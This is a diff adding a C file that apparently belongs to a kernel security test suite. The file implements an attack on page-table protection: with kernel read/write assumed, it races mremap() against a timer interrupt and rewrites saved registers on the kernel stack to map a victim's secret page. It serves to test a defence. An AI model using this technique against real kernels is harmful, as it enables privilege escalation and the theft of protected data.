@@ -1,0 +1,328 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attack on what an interrupted section will do when it goes on. mremap() moves
+ * entries from table to table in one section. The process's own timer interrupts
+ * it, and its handler waits for a lock that is made to look held: that of the
+ * process's signals. Meanwhile the saved register that says where entries come
+ * from is pointed at a page of the attacker's.
+ */
+#include <signal.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/time.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+#include "objects.h"
+
+#define MOVER		"move_page_tables"
+#define MOVER_SIZE	0x1000		/* at most */
+#define TASK_WORDS	2048		/* at most */
+#define SIGHAND_SIZE	1024		/* begins with the lock; has all handlers */
+#define INTERVAL	1000		/* microseconds */
+#define MOVER_CPU	1
+#define MOVED_PART	0x5d		/* and the next one */
+#define MOVED_PAGES	509
+#define STACK_SIZE	(64 << 10)	/* at most */
+#define ENOUGH		12		/* frames that were changed */
+#define SECONDS		12
+#define HOLD		5		/* milliseconds */
+#define PATIENCE	50		/* likewise, for the mover to go on */
+#define PTE_SPECIAL	(1UL << 9)	/* nobody asks whose the page is ... */
+#define NR_SAVED	2		/* byte of kpkeys_cpu: interrupted sections */
+
+/* struct pt_regs of x86-64, in words */
+#define FRAME_WORDS	21
+#define FRAME_GENERAL	15
+#define FRAME_IP	16
+#define FRAME_CS	17
+#define FRAME_SS	20
+#define KERNEL_CS	0x10
+#define KERNEL_SS	0x18
+
+/* Two places that differ by a page, so that no table is moved as a whole. */
+static const int first_entry[] = { 1, 2 };
+
+static struct {
+	volatile int from;		/* which of the places */
+	volatile unsigned long rounds;
+	volatile bool ready, go, found;
+	char text[SECRET_SIZE];
+} *mover;
+
+struct target {
+	struct task task;
+	struct kernel_page forged;
+	uint64_t table[2], function, lock, state;
+	int changed;			/* frames, so far */
+};
+
+static char *place(int which)
+{
+	return (char *)user_room(MOVED_PART + which) + first_entry[which] * PAGE_SIZE;
+}
+
+/* A page ahead of it keeps the table when all of the rest is moved. */
+static bool make_place(int which)
+{
+	volatile char *page = mmap(place(which) - first_entry[which] * PAGE_SIZE, PAGE_SIZE,
+				   PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS |
+				   MAP_FIXED_NOREPLACE, -1, 0);
+
+	if (page == MAP_FAILED)
+		return false;
+	*page = 1;
+	return true;
+}
+
+/* All of it is the zero page. */
+static bool make_places(void)
+{
+	volatile char *page;
+	int i;
+
+	if (!make_place(0) || !make_place(1))
+		return false;
+	page = mmap(place(0), MOVED_PAGES * PAGE_SIZE, PROT_READ,
+		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+	if (page != (volatile char *)place(0))
+		return false;
+	madvise((void *)page, MOVED_PAGES * PAGE_SIZE, MADV_NOHUGEPAGE);
+	for (i = 0; i < MOVED_PAGES; i++)
+		(void)page[i * PAGE_SIZE];
+	return true;
+}
+
+/* ... in a mapping that is said to be a driver's. */
+static void take_text(const char *page)
+{
+	uint64_t vma;
+
+	snprintf(mover->text, sizeof(mover->text), "%s", page);
+	vma = find_vma(page);
+	if (vma)
+		kwrite64(vma + VMA_FLAGS, kread64(vma + VMA_FLAGS) | VM_PFNMAP);
+	munmap((void *)page, PAGE_SIZE);
+	mover->found = true;
+	pause();
+}
+
+static void move_for_ever(void)
+{
+	size_t size = MOVED_PAGES * PAGE_SIZE;
+	const volatile char *last;
+	int from = 0;
+
+	for (;; from = !from) {
+		mover->from = from;
+		if (mremap(place(from), size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
+			   place(!from)) != place(!from))
+			_exit(1);
+		last = place(!from) + size - PAGE_SIZE;
+		if (*last)
+			take_text((const char *)last);
+		mover->rounds++;
+	}
+}
+
+static void on_alarm(int signal)
+{
+	(void)signal;
+}
+
+static void start_timer(void)
+{
+	struct itimerval interval = { { 0, INTERVAL }, { 0, INTERVAL } };
+
+	setitimer(ITIMER_REAL, &interval, NULL);
+}
+
+static pid_t start_mover(void)
+{
+	pid_t pid;
+
+	mover = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	pid = fork();
+	if (pid)
+		return pid;
+	stay_on_cpu(MOVER_CPU);
+	signal(SIGALRM, on_alarm);
+	if (make_places())
+		mover->ready = true;
+	while (!mover->go)
+		usleep(1000);
+	start_timer();
+	move_for_ever();
+	return 0;
+}
+
+static uint64_t now_ms(void)
+{
+	struct timespec now;
+
+	clock_gettime(CLOCK_MONOTONIC, &now);
+	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
+}
+
+/* What the task points to that has the handler of its signal. */
+static uint64_t find_lock(const struct task *task)
+{
+	static uint64_t words[TASK_WORDS];
+	size_t i;
+
+	kread(task->task, words, sizeof(words));
+	for (i = 0; i < TASK_WORDS; i++)
+		if (is_kernel_address(words[i]) &&
+		    find_word(words[i], SIGHAND_SIZE, (uint64_t)on_alarm))
+			return words[i];
+	return 0;
+}
+
+static void wait_ms(int ms)
+{
+	uint64_t end = now_ms() + ms;
+
+	while (now_ms() < end)
+		;
+}
+
+static bool find_target(pid_t pid, struct target *target)
+{
+	struct slot slot;
+	int i;
+
+	for (i = 0; i < 2; i++) {
+		if (kwalk((uint64_t)place(i), LEVEL_PTE, pid, &slot))
+			return false;
+		target->table[i] = slot.slot & -PAGE_SIZE;
+	}
+	target->function = ksymbol(MOVER);
+	target->state = ksymbol_cpu("kpkeys_cpu", MOVER_CPU);
+	if (!target->function || ktask(pid, &target->task) ||
+	    target->task.stack_size > STACK_SIZE || !kernel_page(&target->forged))
+		return false;
+	target->lock = find_lock(&target->task);
+	return target->lock;
+}
+
+static void set_lock(const struct target *target, char locked)
+{
+	kwrite(target->lock, &locked, sizeof(locked));
+}
+
+/* Long enough for the timer to come, and its handler to wait. */
+static bool hold_lock(const struct target *target)
+{
+	uint32_t lock = 0;
+
+	set_lock(target, 1);
+	wait_ms(HOLD);
+	kread(target->lock, &lock, sizeof(lock));
+	return lock;
+}
+
+/* Sections alone: without protection there are none. */
+static bool is_section(const struct target *target)
+{
+	uint8_t nr = 1;
+
+	if (target->state && is_protected())
+		kread(target->state + NR_SAVED, &nr, sizeof(nr));
+	return nr;
+}
+
+/* The only entry that is not empty is the last one to be moved. */
+static void prepare_page(const struct target *target)
+{
+	char zero[PAGE_SIZE];
+	int last = first_entry[mover->from] + MOVED_PAGES - 1;
+
+	memset(zero, 0, sizeof(zero));
+	kwrite(target->forged.addr, zero, sizeof(zero));
+	kwrite64(target->forged.addr + last * sizeof(uint64_t),
+		 (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW | PTE_SPECIAL);
+}
+
+static void change_frame(struct target *target, uint64_t at, const uint64_t *frame)
+{
+	uint64_t table = target->table[mover->from];
+	int i;
+
+	for (i = 0; i < FRAME_GENERAL; i++) {
+		if ((frame[i] & -PAGE_SIZE) != table)
+			continue;
+		kwrite64(at + i * sizeof(*frame), target->forged.addr + frame[i] % PAGE_SIZE);
+		target->changed++;
+	}
+}
+
+static bool is_frame(const struct target *target, const uint64_t *frame)
+{
+	return frame[FRAME_CS] == KERNEL_CS && frame[FRAME_SS] == KERNEL_SS &&
+	       frame[FRAME_IP] - target->function < MOVER_SIZE;
+}
+
+static void change_stack(struct target *target)
+{
+	static uint64_t words[STACK_SIZE / sizeof(uint64_t)];
+	size_t i, nr = target->task.stack_size / sizeof(*words);
+
+	kread(target->task.stack, words, target->task.stack_size);
+	for (i = 0; i + FRAME_WORDS <= nr; i++)
+		if (is_frame(target, words + i))
+			change_frame(target, target->task.stack + i * sizeof(*words), words + i);
+}
+
+static void wait_for_round(void)
+{
+	unsigned long round = mover->rounds;
+	uint64_t end = now_ms() + PATIENCE;
+
+	while (mover->rounds - round < 2 && !mover->found && now_ms() < end)
+		;
+}
+
+static void attack_once(struct target *target)
+{
+	if (hold_lock(target) && is_section(target)) {
+		prepare_page(target);
+		change_stack(target);
+	}
+	set_lock(target, 0);
+	wait_for_round();
+}
+
+static enum outcome change_registers(struct target *target)
+{
+	uint64_t end = now_ms() + SECONDS * 1000;
+
+	while (!mover->found && target->changed < ENOUGH && now_ms() < end)
+		attack_once(target);
+	if (!mover->found && !target->changed)
+		return broken("no section was interrupted");
+	return judge_secret(mover->text, 0);
+}
+
+enum outcome interrupted_registers(void)
+{
+	struct target target = { 0 };
+	enum outcome outcome;
+	pid_t pid;
+
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	stay_on_cpu(0);
+	pid = start_mover();
+	while (!mover->ready)
+		usleep(1000);
+	if (!find_target(pid, &target))
+		return broken("no tables, no stack or no lock");
+	mover->go = true;
+	outcome = change_registers(&target);
+	kill(pid, SIGKILL);
+	return outcome;
+}
